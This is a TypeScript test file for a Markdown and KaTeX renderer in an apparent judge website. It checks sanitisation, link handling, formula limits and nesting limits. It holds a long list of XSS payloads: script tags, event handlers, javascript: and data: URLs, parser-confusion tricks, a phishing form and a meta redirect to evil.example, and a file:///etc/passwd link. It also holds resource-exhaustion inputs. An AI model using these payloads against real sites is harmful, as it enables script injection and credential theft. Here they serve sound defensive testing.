import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { MantineProvider } from '@mantine/core'
import { renderToStaticMarkup } from 'react-dom/server'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { startTexts } from '../../../i18n/i18n.ts'
import { COPIES_CODE } from './drawn-texts.ts'
import { remarkGfm } from './gfm.ts'
import { highlightCode } from './highlight-code.ts'
import { readHtml } from './html.ts'
import type { FormulaBudget } from './limit-formulas.ts'
import { MarkdownBody } from './MarkdownBody.tsx'
import { remarkFormulas, renderMath } from './math.ts'

beforeAll(async () => {
  // The page's own address, which distinguishes internal from external links.
  vi.stubGlobal('window', { location: { href: 'https://judge.example.org/home' } })
  await startTexts('en-US')
})
afterAll(() => {
  vi.unstubAllGlobals()
})

/** The markup of a text with every extension, as it would be on a page. */
function render(source: string, budget: FormulaBudget = 'text'): string {
  return renderToStaticMarkup(
    <MantineProvider>
      <MarkdownBody
        source={source}
        budget={budget}
        remarkPlugins={[remarkGfm, remarkFormulas]}
        htmlReader={[readHtml]}
        rehypePlugins={[() => renderMath(budget), highlightCode]}
      />
    </MantineProvider>,
  )
}

const BANK = join(import.meta.dirname, '../../../../../../packages/starter-bank/problems')
const STATEMENTS = readdirSync(BANK).flatMap((problem) =>
  readdirSync(join(BANK, problem))
    .filter((file) => file.endsWith('.md'))
    .map((file): [string, string] => [`${problem}/${file}`, readFileSync(join(BANK, problem, file), 'utf8')]),
)

const TAGS = /<([a-zA-Z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g
const ATTRIBUTES = /([\w:-]+)(?:="([^"]*)")?/g
const FORBIDDEN_TAGS =
  /^(script|iframe|object|embed|form|link|meta|base|video|audio|frame|template|noscript|textarea|select|dialog|portal)$/i
/** Created by the renderer: KaTeX's MathML and drawings, and Mantine's style sheet. */
const LOCAL_ADDRESS = /^(https?:\/\/|mailto:|\/(?!\/)|#|[\w.%-]+$)/

/** Everything in markup that could run, load or frame something forbidden. */
function dangersOf(markup: string): string[] {
  const body = markup.replace(/<style data-mantine-styles[^>]*>.*?<\/style>/gs, '')
  return [...body.matchAll(TAGS)].flatMap(([, tag = '', attributes = '']) => [
    ...(FORBIDDEN_TAGS.test(tag) ? [`<${tag}>`] : []),
    ...[...attributes.matchAll(ATTRIBUTES)].flatMap(([, name = '', value = '']) => {
      if (/^on/i.test(name) || name === 'srcdoc' || name === 'formaction') return [`${tag} ${name}`]
      if (/^(href|src|xlink:href|action|poster|srcset|cite)$/i.test(name) && !LOCAL_ADDRESS.test(value))
        return [`${tag} ${name}=${value}`]
      return []
    }),
  ])
}

test.each([
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<style>* { display: none }</style>',
  '<div style="position:fixed;inset:0">over everything</div>',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<p id="root" name="location">x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://judge.example.org/1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pjwvc2NyaXB0Pjwvc3ZnPg==)',
  '![x"onerror="alert(1)](/a.png)',
  '![x](/a.png "\\"onerror=alert(1) x=\\"")',
  '[x]: javascript:alert(1)\n\n[x]',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |',
  '- [x] <script>alert(1)</script>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/a.png}$',
  '$\\htmlStyle{position:fixed}{x}$ $\\htmlClass{x}{y}$ $\\htmlData{a=b}{x}$',
  '$\\unicode{<script>alert(1)</script>}$',
  '$<script>alert(1)</script>$',
  '$$\n\\def\\a{\\a\\a}\\a\n$$',
  '**<b onclick=alert(1)>**',
  '> > > <script>alert(1)</script>',
  '<p onclick=alert(1) style="position:fixed" class=overlay tabindex=0 accesskey=s>x</p>',
  '<a href=" java&#10;script:alert(1)" target=_self ping=https://evil.example>x</a>',
  '<a href="https://evil.example" onfocus=alert(1) autofocus>x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" srcset="//evil.example/a 2x">',
  '<img src=`javascript:alert(1)` usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<b><script>alert(1)</script></b><b <script>alert(1)</script>>',
  '<div>\n\n**x** <img src=x onerror=alert(1)>\n\n</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<plaintext><script>alert(1)</script>',
  '<input type=text name=password><input type=image src=x formaction="javascript:alert(1)">',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<code class="language-cpp" onclick=alert(1)>x</code>',
  '<span class="katex" style="position:fixed">x</span>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  'http://a.example/"onmouseover="alert(1)',
  'www.example.org/<script>',
])('%j does no harm', (source) => {
  expect(dangersOf(render(source))).toEqual([])
})

test('the look for dangers finds them', () => {
  expect(dangersOf('<p><a href="javascript:alert(1)" onclick="x">x</a><script></script></p>')).toEqual([
    'a href=javascript:alert(1)',
    'a onclick',
    '<script>',
  ])
})

test('HTML that only sets text stays, and Markdown works between its tags', () => {
  expect(render('a<br>b <sub>1</sub><u>x</u>')).toContain('a<br/>b <sub>1</sub><u>x</u>')
  expect(render('<center>\n\n**middle** $x$\n\n</center>')).toMatch(
    /<div class="[^"]*center[^"]*">\s*<p><strong>/,
  )
  expect(render('<img src="/a.png" width="227" height=9>')).toMatch(/<img [^>]*width="227"/)
  expect(render('<p align="right">r</p>')).toContain('<p align="right">r</p>')
  expect(render('<details><summary>more</summary>\n\n- x\n\n</details>')).toMatch(
    /<details><summary>more<\/summary>/,
  )
  const table = render('<table>\n<tr>\n<td colspan="2" align="center">\n\n$x^2$\n\n</td>\n</tr>\n</table>')
  expect(table).toMatch(/<td colSpan="2"/i)
  expect(table).toContain('class="katex"')
})

test('what is no element of a text leaves its words, and what is no words leaves nothing', () => {
  const markup = render(
    '<font color=red>red</font> <marquee>still</marquee> <style>* { color: red }</style>end',
  )
  expect(markup).toContain('<p>red still end</p>')
})

test.each([
  [
    'Each line has `n` values: <n> <Name> <user_id>.',
    '<p>Each line has',
    '&lt;n&gt; &lt;Name&gt; &lt;user_id&gt;.</p>',
  ],
  ['A vector<int> of **vector<T>**', '<p>A vector&lt;int&gt; of <strong>vector&lt;T&gt;</strong></p>'],
  ['<n>\n<m> </m>', '&lt;n&gt;', '&lt;m&gt; &lt;/m&gt;'],
  ['<div>\n<x>\n</div>', '<div>', '&lt;x&gt;', '</div>'],
  ['A queue<P>, Map<S> end', '<p>A queue&lt;P&gt;, Map&lt;S&gt; end</p>'],
  ['if x<p then y>q, so', '<p>if x&lt;p then y&gt;q, so</p>'],
  ['List<I> a and **Set<B> b**', '<p>List&lt;I&gt; a and <strong>Set&lt;B&gt; b</strong></p>'],
  ['The word </s> ends a line', '<p>The word &lt;/s&gt; ends a line</p>'],
  ['| Map<S> |\n| - |\n| queue<P> |', 'Map&lt;S&gt;</th>', 'queue&lt;P&gt;</td>'],
  ['# A Map<U>\n\n- Map<S>\n- end', 'A Map&lt;U&gt;</h2>', '<li>Map&lt;S&gt;</li>'],
  ['<div>\nMap<S> end\n</div>\n\nmore', 'Map&lt;S&gt; end', '<p>more</p>'],
  ['a <foo bar> b and <sub>1</sub>', '<p>a &lt;foo bar&gt; b and <sub>1</sub></p>'],
])('%j keeps what looks like a tag and is none', (source, ...parts) => {
  const markup = render(source)
  for (const part of parts) expect(markup).toContain(part)
})

test.each([
  ['<p>one\n<p>two', '<p>one', '<p>two'],
  ['<ul>\n<li>one\n<li>two\n</ul>', '<ul>', '<li>one', '<li>two'],
  ['<table><tr><td>1<td>2<tr><td>3</table>', '<td>1<', '<td>2<', '<td>3<'],
  ['one<br>two<hr>three<wbr>', 'one<br/>two<hr/>three<wbr/>'],
  ['<B>bold</b> and <u>more</u>', '<strong>bold</strong>'.replaceAll('strong', 'b'), '<u>more</u>'],
])('%j has the elements that need no end, or have one', (source, ...parts) => {
  const markup = render(source)
  for (const part of parts) expect(markup).toContain(part)
  expect(markup).not.toContain('&lt;')
})

test('tags of fonts, drawings and formulas are no words', () => {
  const markup = render('a<font color=red>b</font><math><mi>c</mi></math><svg><g></g></svg>')
  expect(markup).toContain('<p>abc</p>')
})

test('nobody else names parts of the page', () => {
  expect(render('<h2 id="root" name="location" class="sr-only katex">x</h2>')).toContain('<h2>x</h2>')
  expect(render('<p style="position:fixed" class="overlay" tabindex=0 accesskey=s>x</p>')).toContain(
    '<p>x</p>',
  )
})

test('sizes stay within the page', () => {
  const cells = '<table><tr><td height=500000 width="99999" colspan=1000 rowspan="65534">x</td></tr></table>'
  expect(render(cells)).toContain('<td>x</td>')
  expect(render('<hr width=99999 size=9999>')).toContain('<hr/>')
  expect(render('<img src="/a.png" width=99999 height=99999 alt="">')).not.toContain('9999')
})

test('formatting that is not ended in a paragraph is not begun again in every other', () => {
  const opened = Array.from({ length: 900 }, (_, index) => `<b ${index}>`).join('')
  const markup = render(`<p>${opened}x\n${'<p>x\n'.repeat(900)}`)
  expect([...markup.matchAll(/<b>/g)].length).toBeLessThan(1_000)
})

test('signs that turn the direction or are invisible stay where they are', () => {
  const markup = render('a \u202e b \u2067 c \u200b d \ufeff e')
  expect(markup).toContain('a \u202e b \u2067 c \u200b d \ufeff e')
})

test('links that leave open beside the page, give nothing away and say so', () => {
  const markup = render('[out](https://example.org) [in](/status) [same](https://judge.example.org/x) //a')
  const [out = '', within = '', same = ''] = [...markup.matchAll(/<a [^>]*>/g)].map(([tag]) => tag)
  expect(out).toContain('target="_blank"')
  expect(out).toContain('rel="noopener noreferrer nofollow ugc"')
  expect(markup).toContain('(opens in a new tab)')
  expect(within + same).not.toContain('target')
})

test('pictures load late, tell no one where they are shown, and have a text', () => {
  const [picture = ''] = render('![a cat](/api/public/img/1.png)').match(/<img[^>]*>/) ?? []
  for (const part of ['alt="a cat"', 'loading="lazy"', 'referrerPolicy="no-referrer"'])
    expect(picture.toLowerCase()).toContain(part.toLowerCase())
})

test('a task says whether it is done', () => {
  const markup = render('- [x] one\n- [ ] two')
  expect([...markup.matchAll(/aria-label="(Done|Not done)"/g)].map(([, text]) => text)).toEqual([
    'Done',
    'Not done',
  ])
  expect(markup.match(/disabled=""/g)).toHaveLength(2)
})

test('a footnote and its place lead to each other', () => {
  const markup = render('text[^1]\n\n[^1]: the note')
  const ids = new Set([...markup.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id))
  const targets = [...markup.matchAll(/href="#([^"]*)"/g)].map(([, id]) => id ?? '')
  expect(targets).toHaveLength(2)
  for (const target of targets) expect(ids).toContain(decodeURIComponent(target))
})

test('code can be copied, tables scroll', () => {
  const markup = render('```cpp\nint x;\n```\n\n| a |\n| - |\n| 1 |')
  // The button itself comes later, into this place.
  expect(markup).toContain(COPIES_CODE)
  expect(markup).toContain('hljs-')
  expect(markup).toMatch(/tabindex="0"><table>/i)
})

test.each([
  ['a megabyte', 'word '.repeat(200_000)],
  ['quotations in quotations', `${'>'.repeat(5_000)} x`],
  ['a long run of stars', `${'*'.repeat(5_000)}x${'*'.repeat(5_000)}`],
  ['a long run of brackets', '['.repeat(50_000)],
  ['a heap of tags', '<i>a</i>\n\n'.repeat(4_000)],
  ['a giant paragraph', '[a]('.repeat(6_000)],
  ['a line of quotations', '> '.repeat(3_000)],
  ['a line of lists', '1. '.repeat(3_000)],
  ['a line of both', '>- '.repeat(3_000)],
  // Three million cells of ten thousand characters.
  ['a wide table of short rows', `${'|a'.repeat(900)}|\n${'|-'.repeat(900)}|\n${'|\n'.repeat(3_000)}`],
  ['the same in a quotation', `> ${'|a'.repeat(900)}|\n> ${'|-'.repeat(900)}|\n${'> |\n'.repeat(1_500)}`],
])('%s is shown as it was written', (_, source) => {
  const markup = render(source)
  expect(markup).toContain('This text is too long or too deeply nested')
  expect(dangersOf(markup)).toEqual([])
})

test.each([
  ['a table of two thousand cells', `|a|b|c|d|\n|-|-|-|-|\n${'|1|2|3|4|\n'.repeat(500)}`],
  ['a drawing of a table', `\`\`\`\n${'+---+---+---+\n|   |   |   |\n'.repeat(40)}\`\`\``],
  ['a long line', `a\n\n${'-'.repeat(300)}\n\n${'- '.repeat(40)}`],
  ['a thousand items', '- a\n'.repeat(1_000)],
])('%s is drawn', (_, source) => {
  expect(render(source)).not.toContain('This text is too long or too deeply nested')
})

test.each([
  ['quotations', '> '.repeat(90)],
  ['lists', Array.from({ length: 90 }, (_, level) => `${' '.repeat(level * 2)}- x`).join('\n')],
  ['emphasis', `${'*_'.repeat(300)}x${'_*'.repeat(300)}`],
  ['formulas', `$${'{'.repeat(3_000)}x${'}'.repeat(3_000)}$`],
  ['brackets', '![a]('.repeat(500)],
  ['elements of HTML', '<blockquote>'.repeat(3_000)],
])('deeply nested %s end at a depth that browsers can lay out', (_, source) => {
  const markup = render(source)
  let depth = 0
  let deepest = 0
  for (const [tag] of markup.matchAll(/<\/?(blockquote|ul|li|em|strong|a)\b[^>]*>/g)) {
    depth += tag.startsWith('</') ? -1 : 1
    deepest = Math.max(deepest, depth)
  }
  expect(deepest).toBeLessThanOrEqual(60)
})

test.each([
  ['a link that is never closed', '[a]('],
  ['the end of one', ']('],
  ['a reference', ']['],
  ['the address of one', '](<'],
  ['the title of one', '[a](b "'],
  ['a footnote', '[^'],
  ['a note within a note', '[^a]:'],
  ['a picture', '![a]('],
  ['brackets around another', '[a ['],
  ['a comment', 'a <!--'],
  ['an instruction', 'a <?'],
  ['a heading below a line', 'a\n===\n'],
  ['a line of signs', '\n='],
  ['an address', 'www.a_'],
  ['emphasis of two kinds', '*a_ '],
  ['emphasis that is not closed', 'a**b'],
  ['a dollar', '$1 '],
  ['items', '- a\n'],
  ['paragraphs', 'a\n\n'],
  ['tables', 'a|b\n-|-\n'],
])('%s, 59 kB of it, is shown as it was written', (_, part) => {
  // The lengths of a signature and of its longest paragraph.
  for (const source of [part.repeat(59_000 / part.length), `${part.repeat(19_900 / part.length)}\n\n`])
    expect(render(source, 'remark')).toContain('This text is too long or too deeply nested')
})

test('emphasis that looks back at a whole paragraph takes more steps than a text has, also where no other syntax does', () => {
  const drawn = (source: string) =>
    renderToStaticMarkup(
      <MantineProvider>
        <MarkdownBody source={source} budget="text" remarkPlugins={[]} htmlReader={[]} rehypePlugins={[]} />
      </MantineProvider>,
    )
  expect(drawn('*a_ '.repeat(1_250))).toContain('This text is too long or too deeply nested')
  expect(drawn('some **words** '.repeat(200))).not.toContain('This text is too long or too deeply nested')
})

test('a remark of four thousand ordinary words is drawn', () => {
  const words = 'Some **words** with `code`, a [link](https://example.org/a_b) and $x_1 \\le 2$ in them. '
  const source = `${`${words.repeat(8)}\n\n`.repeat(25)}`
  expect(render(source, 'remark')).not.toContain('This text is too long or too deeply nested')
})

describe('a formula', () => {
  test.each([
    'Costs $5 and $10',
    'It is $ 5 and $10 each',
    'A pair $x and y$2',
    'Costs $ 5 or $ 10',
    '花费 $5 元，$10 元',
  ])('is none of the prices in %j', (source) => {
    expect(render(source)).toContain(`<p>${source}</p>`)
  })

  test.each([
    ['$x$', 'x'],
    ['the $n$-th of $a_1$, ($b$)', 'b'],
    ['$ n $ and $ 1 \\le n \\le 10 $', 'n'],
    ['costs \\$5 and $x$', 'x'],
    ['$$x$$', 'x'],
    ['$5$ and $10$', '10'],
    ['$5 and $x$', 'x'],
  ])('is in %j', (source, last) => {
    const tex = [...render(source).matchAll(/<annotation[^>]*>([^<]*)</g)].map(([, text = '']) => text.trim())
    expect(tex).toContain(last)
  })

  test.each([
    ['\\def\\a{x}\\a'],
    ['\\gdef\\a{x}\\a'],
    ['\\newcommand{\\a}{x}\\a'],
    ['\\renewcommand\\a{x}\\a'],
    ['\\let\\a=x\\a'],
  ])('that defines a command stays text: %s', (formula) => {
    expect(render(`$${formula}$`)).toContain(`<code class="">${formula}</code>`)
  })

  test('with commands whose names begin like definitions is drawn', () => {
    expect(render('$\\left(\\delta\\right) \\leq \\longrightarrow \\lets$')).toContain('class="katex"')
  })

  /** The text of a statement or a remark, and how much of it is rendered. */
  const drawn = (source: string, budget: FormulaBudget) =>
    render(source, budget).match(/<math /g)?.length ?? 0
  const NOTES = {
    defines: 'formulas cannot define commands here',
    nests: 'this formula is nested too deeply',
    too_much: 'The formulas from here on are shown as text',
  }

  const matrix = (rows: number) => `\\begin{matrix}${`${'a&'.repeat(9)}a\\\\`.repeat(rows)}\\end{matrix}`
  const diagram = (rows: number) =>
    `\\begin{CD}${'A@>>>B@>>>C\\\\@VVV@VVV@VVV\\\\'.repeat(rows)}A@>>>B@>>>C\\end{CD}`
  test.each([
    ['a matrix of 1 490 cells', `$$${matrix(149)}$$`],
    ['a diagram of 700 arrows', `$$${diagram(140)}$$`],
    ['a thousand pairs of indices', `$${'x_1^2 '.repeat(1_000)}x$`],
    ['fractions', `$${'\\frac{1}{2}'.repeat(400)}$`],
    ['roots', `$${'\\sqrt{x}'.repeat(400)}$`],
    ['arrows', `$${'\\xrightarrow{a}'.repeat(400)}$`],
    ['braces', `$${'\\overbrace{a}'.repeat(400)}$`],
  ])('of %s stays text, and says why', (_, source) => {
    expect(drawn(source, 'text')).toBe(0)
    expect(render(source)).toContain(NOTES.too_much)
  })

  test('beyond what a text may ask for stays text, and those before it are drawn; a remark may ask for less', () => {
    const source = Array.from({ length: 30 }, () => `$$\n${matrix(3)}\n$$`).join('\n\n')
    const markup = render(source)
    const inText = markup.match(/<math /g)?.length ?? 0
    const inRemark = drawn(source, 'remark')
    expect(inRemark).toBeGreaterThan(0)
    expect(inText).toBeGreaterThan(2 * inRemark)
    expect(inText).toBeLessThan(30)
    // Said once, after the first.
    expect(markup.split(NOTES.too_much)).toHaveLength(2)
  })

  test('that is small is drawn behind one that defines a command', () => {
    const markup = render('$\\def\\a{x}\\a$ and $x^2$')
    expect(markup).toContain(NOTES.defines)
    expect(markup.match(/<math /g)).toHaveLength(1)
  })

  test.each([
    ['roots', '\\sqrt{', '}'],
    ['exponents', 'x^{', '}'],
    ['brackets', '\\left(', '\\right)'],
    ['matrices', '\\begin{matrix}', '\\end{matrix}'],
  ])('of %s nests 24 deep and no deeper', (_, open, close) => {
    const nested = (depth: number) => `$${open.repeat(depth)}x${close.repeat(depth)}$`
    expect(render(nested(12))).toContain('<math ')
    const deep = render(nested(open.includes('{m') ? 25 : 26))
    expect(deep).not.toContain('<math ')
    expect(deep).toContain(NOTES.nests)
  })

  test.each(STATEMENTS)('of the starter bank is drawn: %s', (_, source) => {
    const markup = render(source)
    for (const note of Object.values(NOTES)) expect(markup).not.toContain(note)
  })

  test('as in the longest statements that people write is drawn', () => {
    const bound =
      '- $1 \\le n, m \\le 2 \\cdot 10^5$, $0 \\le a_i < 10^9$, and $\\sum_{i=1}^{n} a_i \\equiv 0 \\pmod{k}$.\n'
    expect(drawn(bound.repeat(12), 'text')).toBe(36)
  })
})
